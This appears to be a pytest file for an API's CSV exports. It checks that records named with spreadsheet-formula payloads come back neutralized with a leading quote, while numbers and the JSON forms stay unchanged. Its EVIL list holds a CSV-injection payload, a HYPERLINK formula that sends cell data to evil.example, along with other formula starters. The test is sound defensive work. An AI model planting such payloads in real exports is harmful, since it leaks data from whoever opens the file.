"""No CSV the API writes carries a spreadsheet formula (issue 14 item 5, OWASP "CSV injection").

Records are named with formula payloads; every CSV endpoint the OpenAPI spec lists must give
them back with a leading ``'``, leave its numbers (negative ones too) as they are, and the
JSON forms must keep the names exactly as stored.  A new CSV endpoint without a case here
fails ``test_every_csv_endpoint_has_a_case``.
"""
import csv
import datetime as dt
import io
from decimal import Decimal, InvalidOperation

import pytest

from cxgov.api.csv_cells import FORMULA_STARTS, csv_text, neutralize
from cxgov.db import database
from cxgov.models import (
    ActualEntry, Decision, Initiative, InitiativeImpact, InitiativeObjective, InitiativePartner, Review, ReviewMetric,
    User,
)
from cxgov.services import initiatives, metrics, partners, rounds, teams
from cxgov.services.actor import SYSTEM
from tests.builders import actor_for, build_world, initiative_payload, metric_payload
from tests.conftest import bearer

EVIL = ['=HYPERLINK("http://evil.example/?d="&B2,"Open budget")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
SHORT = [e[:40] for e in EVIL]  # for the 40-character columns (metric key and unit)


@pytest.fixture(scope="module")
def spec_csv_paths():
    from cxgov.app import create_app

    spec = create_app({"TESTING": True, "DATABASE_URL": "sqlite:///:memory:"}).test_client().get(
        "/api/v1/openapi.json").json
    return {(method.upper(), path) for path, ops in spec["paths"].items() for method, op in ops.items()
            if isinstance(op, dict) and any("text/csv" in r.get("content", {}) for r in op.get("responses", {}).values())}


@pytest.fixture
def poisoned(app, client):
    """Six of everything, each named with one payload: teams (and departments), rounds, objectives,
    partners, metrics (key and unit), initiatives, override decisions (rationales); a ranking of six
    initiatives titled with them; reviewed work with negative expected and realized changes."""
    world = build_world(app)
    with app.app_context():
        lead = User.get_by_id(world["lead_a"])
        for title in EVIL:
            record = initiatives.create_initiative(actor_for(lead), initiative_payload(world, title=title))
            initiatives.transition(actor_for(lead), record.id, "submitted", round_id=world["round"])
        for k, evil in enumerate(EVIL):
            team = teams.create_team(SYSTEM, name=evil, department=evil, lead_name="L")
            rnd = rounds.create_round(SYSTEM, name=evil, fiscal_year=2028, fiscal_quarter=1 + k % 4, budget=10**9)
            objective = metrics.create_objective(SYSTEM, title=evil, metric_id=world["metric"], baseline=20.0,
                                                 target=30.0, deadline=dt.date(2027, 12, 31), weight=1.0)
            partner = partners.create_partner(SYSTEM, name=evil, kind="vendor", description="")
            metric = metrics.create_metric(SYSTEM, **metric_payload(SHORT[k], unit=SHORT[k]))
            record = Initiative.create(
                title=evil, problem_statement="p", team=team.id, owner=world["owner"], sponsor=world["sponsor"],
                focus_area="technology", building_block="customer_insights_metrics", journey_stage="support",
                one_time_cost=5_000_000, annual_cost=0, requested_amount=5_000_000, risk=2, months_to_value=3,
                status="reviewed", round=rnd.id, approved_amount=4_000_000 + k,
                delivered_at=dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc))
            InitiativeObjective.create(initiative=record.id, objective=objective.id, alignment=3)
            InitiativePartner.create(initiative=record.id, partner=partner.id, share=0.5)
            booked = ActualEntry.create(initiative=record.id, amount=500, fiscal_year=2027, fiscal_quarter=1,
                                        booked_on=dt.date(2027, 2, 1), reference=evil, created_by=world["user_finance"])
            ActualEntry.create(initiative=record.id, amount=-500, reverses=booked.id, fiscal_year=2027,
                               fiscal_quarter=1, booked_on=dt.date(2027, 2, 2), reference=evil,
                               created_by=world["user_finance"])
            InitiativeImpact.create(initiative=record.id, metric=metric.id, expected_change=-2.0, confidence=0.5)
            review = Review.create(initiative=record.id, lessons_learned=evil, created_by=world["user_admin"])
            ReviewMetric.create(review=review.id, metric=metric.id, expected_change=-2.0, confidence=0.5,
                                realized_change=-1.5, source="entered")
            Decision.create(round=rnd.id, initiative=record.id, outcome="approve", approved_amount=4_000_000 + k,
                            rationale=evil, override=True, override_kinds=["quorum"], override_rationale=evil,
                            tally={}, decided_by=world["user_board_chair"])
        database.close()
    ranked = client.post(f"/api/v1/rounds/{world['round']}/rankings", headers=bearer(world["tokens"]["board_chair"]))
    assert ranked.status_code == 201, ranked.json
    world["ranking"] = ranked.json["id"]
    return world


def _ranking_urls(w):
    return [(f"/api/v1/rankings/{w['ranking']}", ["title"])]


def _latest_urls(w):
    return [(f"/api/v1/rounds/{w['round']}/rankings/latest", ["title"])]


def _spend_urls(w):
    return [(f"/api/v1/reports/approved-spend?group_by={group}", [column]) for group, column in (
        ("team", "team_name"), ("department", "department"), ("round", "round_name"),
        ("objective", "objective_title"), ("partner", "partner_name"))]


#: Every CSV endpoint: the URLs that exercise it and the text columns that carry the payloads.
CASES = {
    ("GET", "/api/v1/rankings/{ranking_id}"): _ranking_urls,
    ("GET", "/api/v1/rounds/{round_id}/rankings/latest"): _latest_urls,
    ("GET", "/api/v1/reports/approved-spend"): _spend_urls,
    ("GET", "/api/v1/reports/budget"): lambda w: [("/api/v1/reports/budget", ["round_name"])],
    ("GET", "/api/v1/reports/coverage"): lambda w: [("/api/v1/reports/coverage", [])],  # no free text: enums only
    ("GET", "/api/v1/reports/overrides"): lambda w: [("/api/v1/reports/overrides", ["rationale", "override_rationale"])],
    ("GET", "/api/v1/reports/benefits"): lambda w: [("/api/v1/reports/benefits", ["metric", "unit"])],
}


def test_every_csv_endpoint_has_a_case(spec_csv_paths):
    assert spec_csv_paths == set(CASES)


def _number(cell):
    try:
        Decimal(cell)
        return True
    except InvalidOperation:
        return False


@pytest.mark.parametrize("endpoint", sorted(CASES), ids=lambda e: e[1])
def test_csv_cells_cannot_start_a_formula(client, poisoned, endpoint):
    finance = bearer(poisoned["tokens"]["finance"])
    for url, columns in CASES[endpoint](poisoned):
        response = client.get(url + ("&" if "?" in url else "?") + "format=csv", headers=finance)
        assert response.status_code == 200 and response.mimetype == "text/csv", url
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
        assert rows, url
        for column in columns:
            payloads = SHORT if column in ("metric", "unit") else EVIL
            cells = {row[column] for row in rows}
            assert {"'" + p for p in payloads} <= cells, (url, column)
            assert not set(payloads) & cells, (url, column)
        for row in rows:
            for column, cell in row.items():
                # what still starts like a formula is a number (a negative amount or change), nothing else
                assert not cell.startswith(FORMULA_STARTS) or _number(cell), (url, column, cell)
                # and nothing outside the payload columns was touched (numbers least of all)
                assert column in columns or not cell.startswith("'"), (url, column, cell)


def test_numbers_stay_numbers_and_json_is_untouched(client, poisoned):
    finance = bearer(poisoned["tokens"]["finance"])
    benefits = list(csv.DictReader(io.StringIO(client.get("/api/v1/reports/benefits?format=csv",
                                                          headers=finance).get_data(as_text=True), newline="")))
    mine = [r for r in benefits if r["unit"] in {"'" + s for s in SHORT}]
    assert len(mine) == 12  # a line per metric and its TOTAL
    assert {r["expected"] for r in mine} == {"-2.0"} and {r["realized"] for r in mine} == {"-1.5"}
    assert {r["approved_reviewed_eur"] for r in mine} == {f"40000.0{k}" for k in range(6)}
    as_json = client.get("/api/v1/reports/benefits", headers=finance).json
    assert set(SHORT) <= {key for line in as_json["lines"] for key in line["metrics"]}
    assert set(SHORT) <= {m["unit"] for line in as_json["lines"] for m in line["metrics"].values()}
    spend = client.get("/api/v1/reports/approved-spend?group_by=team", headers=finance).json
    assert set(EVIL) <= {line["keys"]["team_name"] for line in spend["lines"]}
    overrides = client.get("/api/v1/reports/overrides", headers=finance).json
    assert set(EVIL) <= {line["override_rationale"] for line in overrides["lines"]}
    ranking = client.get(f"/api/v1/rankings/{poisoned['ranking']}?page_size=100", headers=finance).json
    assert set(EVIL) <= {e["title"] for e in ranking["entries"]}
    budget = client.get("/api/v1/reports/budget", headers=finance).json
    assert set(EVIL) <= {line["round_name"] for line in budget["lines"]}


def test_the_cell_rule():
    assert [neutralize(e) for e in EVIL] == ["'" + e for e in EVIL]
    assert neutralize("Open budget") == "Open budget" and neutralize("") == "" and neutralize("'x") == "'x"
    text = csv_text(["name", "amount", "pct"], [["-500", -500, "-1.25"], [-7, Decimal("-0.50"), None],
                                                ["TOTAL", "TOTAL", "=1+1"]], numeric={"amount", "pct"})
    assert list(csv.reader(io.StringIO(text))) == [["name", "amount", "pct"], ["'-500", "-500", "-1.25"],
                                                   ["'-7", "-0.50", ""], ["TOTAL", "TOTAL", "'=1+1"]]
